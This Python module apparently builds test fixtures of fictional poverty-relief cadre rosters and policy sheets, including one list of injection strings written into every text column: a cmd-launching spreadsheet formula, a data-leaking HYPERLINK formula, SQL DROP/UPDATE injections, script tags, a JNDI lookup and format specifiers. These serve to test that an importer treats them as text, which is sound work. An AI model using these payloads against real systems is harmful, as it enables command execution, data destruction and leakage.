"""Cadres, and texts that would do harm if anything took them for more than text. All names and phones are made up."""

from __future__ import annotations

from pathlib import Path

from .writing import Rows, Sheet, SheetFiles, write_text, write_xlsx

sheets = SheetFiles()

#: Texts that a spreadsheet, a browser, a database, a template or QGIS would run.
_HARMFUL = (
    "=cmd|'/c calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://example.invalid/?\"&A1,\"点我\")",
    "'; DROP TABLE policy; --",
    "x'); UPDATE household SET size = 0; --",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)> & <b>粗体</b>",
    "[% layer_property('household', 'source') %]",
    "{{ 7 * 7 }} ${jndi:ldap://example.invalid/a}",
    "%s %n {0} {name} \\x00",
)  # fmt: skip


@sheets.file("12_cadres_bom_semicolons.csv")
def cadres_bom_semicolons(path: Path) -> None:
    """From a system with European settings: UTF-8 with a mark, semicolons between cells and inside one."""
    rows: Rows = [
        ("干部编号", "姓名", "帮扶身份", "职务", "单位", "电话", "所驻村", "帮扶地", "到村时间", "结束时间", "政治面貌"),
        ("G1201", "石敢", "第一书记", "主任", "紫云供电局", "13800000301;13800000302", "520425104222", "520425104222", "2016-03-01", "至今", "中共党员"),
        ("G1202", "石当", "驻村队员", "班长", "紫云供电局", "0851-80000001", "520425104201", "520425104201", "2016.3.1", "2018年", "群众"),
        ("G1203", "石平", "队长", "", "台江供电局", "138 0000 0303", "522630202201", "522630202201", "2016年3月", "", "中共党员"),
        ("G1204", "石安", "村长", "", "台江供电局", "13800000304", "522630202201", "522630202201", "2016年3月", "", ""),
        ("G1205", "", "队员", "", "台江供电局", "13800000305", "522630202201", "522630202201", "2016年3月", "", ""),
    ]  # fmt: skip
    write_text(path, rows, "utf-8-sig", delimiter=";")


@sheets.file("22_harmful_texts.xlsx")
def harmful_texts(path: Path) -> None:
    """Formulas, SQL, HTML and QGIS expressions typed as text into every text column: kept as the text that they are."""
    rows: Rows = [
        ("政策编号", "标题", "文号", "发文单位", "发文日期", "政策类别", "层级", "摘要", "正文"),
        *(
            (f"F22{n:02}'; --", text, text, text, "2016-03-05", "国家政策", "省级", text, f"{text}\n{text}")
            for n, text in enumerate(_HARMFUL, start=1)
        ),
    ]
    write_xlsx(path, Sheet("政策", rows))


@sheets.file("22b_harmful_texts.csv")
def harmful_texts_csv(path: Path) -> None:
    """The same in a CSV, in the names of people, too; a header that is a formula, and one that is HTML."""
    rows: Rows = [
        ("供给编号", "供给内容", "类别", "提供单位", "联系人", "提供日期", "状态", "=1+1", "<b>备用</b>"),
        *(
            (f"E22{n:02}", text, "其他", text, text, "2016-03-05", "待对接", text, text)
            for n, text in enumerate(_HARMFUL, start=1)
        ),
    ]
    write_text(path, rows, "utf-8")


@sheets.file("28_cadres_by_place_name.xlsx")
def cadres_by_place_name(path: Path) -> None:
    """Cadres without numbers, where they serve by name: village, township, bureau; dates the wrong way round."""
    rows: Rows = [
        ("驻村干部花名册",),
        ("序号", "干部姓名", "帮扶身份", "职务", "工作单位", "手机号", "帮扶地", "开始时间", "结束时间", "备注"),
        (
            1,
            "田守一",
            "第一书记",
            "副局长",
            "紫云供电局",
            13800000501,
            "紫云县板当镇小寨关村",
            "2016年3月",
            "至今",
            None,
        ),
        (2, "田守二", "驻村干部", None, "台江供电局", "13800000502", "台盘乡", "2016-03-01", "2016-12-31", None),
        (3, "田守三", "联络人", None, "紫云供电局", "13800000503", "紫云供电局", "2016-03-01", None, None),
        (4, "田守四", "队员", None, "紫云供电局", "13800000504", "小寨关村", "2016-12-31", "2016-03-01", "时间填反"),
        (5, "田守五", "队员", None, "紫云供电局", "13800000505", "青山村", "2016-03-01", None, "县内有两个青山村"),
        (6, "田守六", "队员", None, "紫云供电局", "1380000050", "阳芳村", "2016-03-01", None, None),
        (7, None, "队员", None, "紫云供电局", "13800000507", "阳芳村", "2016-03-01", None, None),
        (8, "田守二", "驻村干部", None, "台江供电局", "13800000502", "台盘乡", "2016-03-01", "2016-12-31", None),
        ("共8人",),
    ]
    write_xlsx(path, Sheet("花名册", rows, ("A1:J1",)))
